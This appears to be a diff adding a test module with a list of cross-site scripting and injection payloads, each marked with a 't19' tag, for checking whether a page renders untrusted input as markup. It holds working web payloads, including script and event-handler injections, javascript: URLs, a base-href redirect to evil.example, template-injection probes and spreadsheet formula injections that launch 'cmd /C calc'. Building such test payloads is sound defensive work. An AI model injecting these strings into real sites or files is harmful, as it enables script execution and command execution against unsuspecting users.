@@ -1,0 +1,48 @@
+"""What a stranger writes who wants it to run: each tries another place of a page.
+
+Each alerts where it runs, and leaves an element or an attribute named `t19` where it is taken for
+markup; a policy that stops the script does not hide that.
+"""
+
+PAYLOADS = (
+    "<t19></t19><script>alert(1)</script>",
+    "<t19><img src=x onerror=alert(1)>",
+    "'\"><t19><svg onload=alert(1)>",
+    '" t19 onmouseover=alert(1) autofocus onfocus=alert(1) x="',
+    "' t19 onfocus=alert(1) autofocus x='",
+    "</title><t19><script>alert(1)</script>",
+    "</textarea><t19><script>alert(1)</script>",
+    "</script><t19><script>alert(1)</script>",
+    "</style><t19><style>*{display:none}</style>",
+    "--><t19><script>alert(1)</script><!--",
+    "]]><t19 xmlns='http://www.w3.org/1999/xhtml'/><script>alert(1)</script>",
+    "</text></svg><t19><svg><script>alert(1)</script>",
+    "<svg><t19/><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><t19><mtext><img src onerror=alert(1)>",
+    "<t19><iframe srcdoc='<script>parent.alert(1)</script>'>",
+    "<t19><object data='data:text/html,<script>alert(1)</script>'>",
+    "<t19><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<t19><base href='https://evil.example/'>",
+    "<t19><form action='javascript:alert(1)'><button>Nod at this</button>",
+    "<t19><a href='javascript:alert(1)'>here</a>",
+    "<t19><details open ontoggle=alert(1)>",
+    "<t19><video><source onerror=alert(1)>",
+    "<t19><div hx-get='/x' hx-trigger=load hx-on::load=alert(1)>",
+    "<t19><mickle-button url='javascript:alert(1)'></mickle-button>",
+    "&lt;t19&gt;&#60;t19&#62;&#x3c;t19&#x3e;<t19>",
+    "%3Ct19%3E%3Cscript%3Ealert(1)%3C/script%3E",
+    "\\u003ct19\\u003e\\x3ct19\\x3e';alert(1);//",
+    "{{7*7}}{% debug %}{{ request }}${alert(1)}#{7*7}<t19>",
+    "`;alert(1);`<t19>",
+    "\u202e<t19>\u2066gnidda\u2069 \u200b\ufeff",
+    "\x00<t19\x00><scr\x00ipt>alert(1)</script>",
+    "＜t19＞＜script＞alert(1)＜/script＞<t19>",
+    "+ADw-t19+AD4-+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    '=HYPERLINK("javascript:alert(1)";"t19")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "javascript:alert(1)//<t19>",
+    "data:text/html,<t19><script>alert(1)</script>",
+    "\tjava\nscript:alert(1)//<t19>",
+    'https://evil.example/"><t19><script>alert(1)</script>',
+)
